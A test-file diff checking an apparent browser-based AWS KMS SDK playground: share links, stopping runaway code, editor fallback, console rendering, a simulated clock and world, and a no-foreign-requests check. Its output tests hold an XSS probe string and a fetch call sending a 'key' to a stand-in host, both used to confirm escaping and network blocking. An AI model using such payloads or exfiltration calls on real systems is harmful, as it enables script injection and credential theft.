@@ -1,0 +1,296 @@
+/**
+ * The playground's promises to a reader, in real Chromium against the built site: share links,
+ * Stop and the time limit, damaged links, IntelliSense, the console, the World panel, small
+ * screens, and that nothing leaves the machine.
+ */
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { decodeCodeHash } from '../../src/playground/share/code-hash';
+import {
+  launchChromium,
+  noticesText,
+  openPlayground,
+  outputText,
+  playgroundUrl,
+  requestRows,
+  runAndWait,
+  startPreviewServer,
+  statusText,
+  watchForeignRequests,
+  worldText,
+  type ForeignRequestWatch,
+  type PreviewServer,
+} from './support';
+
+let server: PreviewServer;
+let browser: Browser;
+const contexts: BrowserContext[] = [];
+const watches: ForeignRequestWatch[] = [];
+
+/** A fresh browser profile (no drafts, no cache), watched for requests leaving the machine. */
+async function freshPage(options: Parameters<Browser['newContext']>[0] = {}): Promise<Page> {
+  const context = await browser.newContext(options);
+  contexts.push(context);
+  watches.push(await watchForeignRequests(context, server.origin));
+  return context.newPage();
+}
+
+beforeAll(async () => {
+  server = await startPreviewServer();
+  browser = await launchChromium();
+});
+
+// Each test's browser profile holds a Monaco TypeScript worker; close them as we go.
+afterEach(async () => {
+  await Promise.all(contexts.splice(0).map((context) => context.close()));
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await server?.close();
+});
+
+describe('share links', () => {
+  it('carry the edited code and the scenario to a fresh browser', async () => {
+    const page = await freshPage({ permissions: ['clipboard-read', 'clipboard-write'] });
+    await openPlayground(page, server, { scenario: 'user-logged-in' });
+    const program = 'const answer: number = 6 * 7;\nconsole.log(`shared program says ${answer}`);\n';
+    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
+    await page.keyboard.press('ControlOrMeta+A');
+    await page.keyboard.insertText(program);
+    await page.click('[data-pg="copy-link"]');
+    await expect.poll(() => statusText(page)).toMatch(/Link copied/);
+    const link = await page.inputValue('[data-pg="link"]');
+    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(link);
+    const url = new URL(link);
+    expect(url.searchParams.get('scenario')).toBe('user-logged-in');
+    expect(decodeCodeHash(url.hash)).toEqual({ kind: 'code', code: program });
+
+    const other = await freshPage();
+    await other.goto(link);
+    await other.waitForSelector('kms-playground[data-editor="ready"]');
+    expect(await other.inputValue('[data-pg="scenario"]')).toBe('user-logged-in');
+    const shownCode = (await other.innerText('[data-pg="editor"] .view-lines')).replace(/\u00a0/g, ' ');
+    expect(shownCode).toContain('console.log(`shared program says ${answer}`);');
+    await runAndWait(other);
+    expect(await outputText(other)).toContain('shared program says 42');
+  });
+
+  it('keep the hash current while typing, so a reload keeps the edits', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, { scenario: 'healthy' });
+    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
+    await page.keyboard.press('ControlOrMeta+End');
+    await page.keyboard.insertText('\nconsole.log("added before the reload");\n');
+    await expect.poll(() => page.evaluate(() => location.hash)).toMatch(/^#code=/);
+    await page.reload();
+    await page.waitForSelector('kms-playground[data-editor="ready"]');
+    await runAndWait(page);
+    expect(await outputText(page)).toContain('added before the reload');
+  });
+
+  it('keep drafts per scenario in the browser, offered back when the link has no code', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, { scenario: 'user-not-found' });
+    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
+    await page.keyboard.press('ControlOrMeta+A');
+    await page.keyboard.insertText('console.log("my draft");');
+    await expect.poll(() => page.evaluate(() => location.hash)).toMatch(/^#code=/);
+    // As if arriving from the guide's "Try it" link: the page's sample, with the draft offered.
+    await openPlayground(page, server, { scenario: 'user-not-found' });
+    expect(await noticesText(page)).toContain('You edited this scenario’s code before');
+    await page.click('[data-pg="notices"] button:has-text("Restore my edits")');
+    await runAndWait(page);
+    expect(await outputText(page)).toBe('my draft');
+  });
+
+  it('report a damaged or cut-short link and still give a working playground', async () => {
+    const page = await freshPage();
+    const good = new URL(playgroundUrl(server, { scenario: 'user-locked-out', code: 'console.log("this link gets cut short");' }));
+    await openPlayground(page, server, { scenario: 'user-locked-out', hash: good.hash.slice(0, -6) });
+    expect(await noticesText(page)).toMatch(/The code in this link could not be loaded: .*cut short/);
+    const status = await runAndWait(page);
+    expect(status).toMatch(/^Finished/);
+    expect(await outputText(page)).toContain('USER_LOCKED_OUT');
+  });
+
+  it('report an unknown scenario and open the default one', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, { scenario: 'no-such-scenario' });
+    expect(await noticesText(page)).toContain('There is no scenario called “no-such-scenario”');
+    expect(await page.inputValue('[data-pg="scenario"]')).toBe('healthy');
+    expect(await runAndWait(page)).toMatch(/^Finished/);
+  });
+});
+
+describe('runaway programs', () => {
+  it('Stop ends an endless loop at once and the page keeps answering', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, { code: 'console.log("looping");\nwhile (true) {}\n' });
+    await page.click('[data-pg="run"]');
+    await page.waitForSelector('kms-playground[data-run="running"]');
+    // The loop runs in the worker: the page still responds to input.
+    await page.click('[data-pg="stop"]', { timeout: 2_000 });
+    await page.waitForSelector('kms-playground[data-run="idle"]', { timeout: 2_000 });
+    expect(await statusText(page)).toMatch(/^Stopped after/);
+    expect(await outputText(page)).toMatch(/you pressed Stop/);
+  });
+
+  it('changing the scenario stops a running program and loads the new starter code', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, { code: 'while (true) {}' });
+    await page.click('[data-pg="run"]');
+    await page.waitForSelector('kms-playground[data-run="running"]');
+    await page.selectOption('[data-pg="scenario"]', 'user-not-found');
+    await page.waitForSelector('kms-playground[data-run="idle"]', { timeout: 2_000 });
+    await expect.poll(() => statusText(page)).toContain('Loaded “');
+    expect(new URL(page.url()).searchParams.get('scenario')).toBe('user-not-found');
+    await runAndWait(page);
+    expect(await outputText(page)).toContain('USER_NOT_FOUND');
+  });
+
+  it('the 10-second limit ends a never-ending async loop, and the next run works', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, {
+      code: 'let ticks = 0;\nwhile (true) { await new Promise((resolve) => setTimeout(resolve, 1)); ticks++; }\n',
+    });
+    const status = await runAndWait(page, 20_000);
+    expect(status).toMatch(/still running after 10 s, the playground’s limit/);
+    expect(await page.evaluate(() => document.title)).toContain('Playground');
+    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
+    await page.keyboard.press('ControlOrMeta+A');
+    await page.keyboard.insertText('console.log("fresh worker, fresh run");');
+    await page.keyboard.press('ControlOrMeta+Enter');
+    await page.waitForFunction(() => document.querySelector('[data-pg="console"]')?.textContent?.includes('fresh worker, fresh run'));
+  }, 40_000);
+});
+
+describe('editor', () => {
+  it('offers DescribeCustomKeyStoresCommand from the bundled SDK types, and flags type errors', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, { code: 'import * as sdk from "@aws-sdk/client-kms";\nconst limit: number = "ten";\n' });
+    await page.waitForSelector('kms-playground[data-types="ready"]', { timeout: 30_000 });
+    await page.waitForSelector('[data-pg="editor"] .squiggly-error');
+    await page.click('[data-pg="editor"] .monaco-editor .view-lines');
+    await page.keyboard.press('ControlOrMeta+End');
+    await page.keyboard.insertText('\nsdk.DescribeCustomKey');
+    await page.keyboard.press('Control+Space');
+    const suggestion = page.locator('.suggest-widget .monaco-list-row', { hasText: 'DescribeCustomKeyStoresCommand' });
+    await suggestion.first().waitFor({ timeout: 10_000 });
+  });
+
+  it('falls back to a plain text editor on small screens, and Run still works', async () => {
+    const page = await freshPage({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
+    await openPlayground(page, server, { scenario: 'user-not-found' });
+    expect(await page.getAttribute('kms-playground', 'data-editor-kind')).toBe('plain');
+    expect(await page.inputValue('.pg-plain-editor')).toContain('@aws-sdk/client-kms');
+    await page.tap('[data-pg="run"]');
+    await page.waitForSelector('kms-playground[data-run="idle"]');
+    await expect.poll(() => outputText(page)).toContain('USER_NOT_FOUND');
+  });
+});
+
+describe('output', () => {
+  it('shows objects as trees, SDK errors with $fault and $metadata, and escapes everything', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, {
+      code: [
+        'import { KMSClient, DescribeKeyCommand } from "@aws-sdk/client-kms";',
+        'console.log("<img src=x onerror=alert(1)>", { store: { id: "cks-1", state: "FAILED" } });',
+        'console.warn("careful");',
+        'try {',
+        '  await new KMSClient({ region: "eu-west-1" }).send(new DescribeKeyCommand({ KeyId: "1234abcd-0000-0000-0000-000000000000" }));',
+        '} catch (error) {',
+        '  console.error(error);',
+        '}',
+        'Promise.reject(new Error("nobody caught this"));',
+        'setTimeout(() => { throw new RangeError("thrown in a timer"); }, 30_000);',
+      ].join('\n'),
+    });
+    await runAndWait(page);
+    const output = await outputText(page);
+    expect(output).toContain('<img src=x onerror=alert(1)>');
+    expect(await page.locator('[data-pg="console"] img').count()).toBe(0);
+    expect(output).toContain('{ store: { id: "cks-1", state: "FAILED" } }');
+    expect(output).toMatch(/NotFoundException: Key '.*' does not exist/);
+    expect(output).toMatch(/\$fault: "client"/);
+    expect(output).toMatch(/\$metadata:\s*\{ httpStatusCode: 400, requestId: "[0-9a-f-]+"/);
+    expect(output).toMatch(/Unhandled promise rejection Error: nobody caught this/);
+    expect(output).toMatch(/Uncaught \(in a timer callback\) RangeError: thrown in a timer/);
+    expect(await page.locator('[data-pg="console"] .pg-level-warn').count()).toBe(1);
+  });
+
+  it('truncates huge output with a note', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, { code: 'for (let i = 0; i < 5000; i++) console.log("line", i);\nconsole.log("done");' });
+    expect(await runAndWait(page)).toMatch(/^Finished/);
+    expect(await outputText(page)).toMatch(/Output truncated: the program wrote more than 2000 lines/);
+    expect(await page.locator('[data-pg="console"] .pg-line').count()).toBeLessThanOrEqual(2001);
+  });
+
+  it('fails requests to other hosts in the program, with a message that says why', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, {
+      code: [
+        'for (const attempt of [',
+        '  () => fetch("https://example.com/steal?key=AKIA"),',
+        '  () => new WebSocket("wss://example.com/socket"),',
+        '  () => { const xhr = new XMLHttpRequest(); xhr.open("GET", "https://example.com/x"); xhr.send(); },',
+        ']) {',
+        '  try { await attempt(); console.log("reached the network!"); } catch (error) { console.log(String(error)); }',
+        '}',
+      ].join('\n'),
+    });
+    await runAndWait(page);
+    const output = await outputText(page);
+    expect(output).not.toContain('reached the network!');
+    expect(output).toContain('TypeError: Network request blocked: GET https://example.com/steal was not sent');
+    expect(output).toContain('WebSocket to wss://example.com/socket was not sent');
+    expect(output).toContain('XMLHttpRequest GET https://example.com/x was not sent');
+  });
+});
+
+describe('world and time', () => {
+  it('keeps the world between runs: repair it in the World panel, run again, and the store connects', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, { scenario: 'user-locked-out' });
+    await runAndWait(page);
+    expect(await outputText(page)).toContain('USER_LOCKED_OUT');
+    expect(await worldText(page)).toContain('kmsuser is locked out');
+    await page.click('[data-pg="actions"] button:has-text("Set the kmsuser password")');
+    expect(await worldText(page)).toContain('A connection attempt now would succeed');
+    await runAndWait(page);
+    expect(await outputText(page)).toMatch(/CONNECTED/);
+    expect(await worldText(page)).toMatch(/payments-hsm-store[\s\S]*CONNECTED/);
+
+    await page.click('[data-pg="reset"]');
+    expect(await worldText(page)).toContain('kmsuser is locked out');
+  });
+
+  it('runs realistic waits on the simulated clock and shows the simulated time', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, {
+      code: 'const started = Date.now();\nfor (let i = 0; i < 4; i++) await new Promise((r) => setTimeout(r, 30_000));\nconsole.log(`waited ${(Date.now() - started) / 60_000} simulated minutes`);',
+    });
+    const status = await runAndWait(page);
+    expect(await outputText(page)).toMatch(/waited 2(\.\d+)? simulated minutes/);
+    // The run's simulated time is the waits plus start-up (real milliseconds, sped up too).
+    expect(status).toMatch(/Finished in .* \([2-4] min( \d+ s)? of simulated time\)/);
+    await page.click('[data-pg="jumps"] button:has-text("+7 days")');
+    expect(await page.innerText('[data-pg="clock"]')).toMatch(/7 d( \d+ min)? since the scenario started/);
+  });
+
+  it('shows each KMS call with its attempt number, so retries are visible', async () => {
+    const page = await freshPage();
+    await openPlayground(page, server, { scenario: 'throttling' });
+    await runAndWait(page);
+    const rows = await requestRows(page);
+    expect(rows.some((row) => row.errorType === 'ThrottlingException')).toBe(true);
+    expect(rows.some((row) => row.attempt > 1)).toBe(true);
+  });
+});
+
+it('sent no request to any host other than the local server', () => {
+  expect(watches.length).toBeGreaterThan(5);
+  expect(watches.flatMap((watch) => watch.foreign)).toEqual([]);
+});
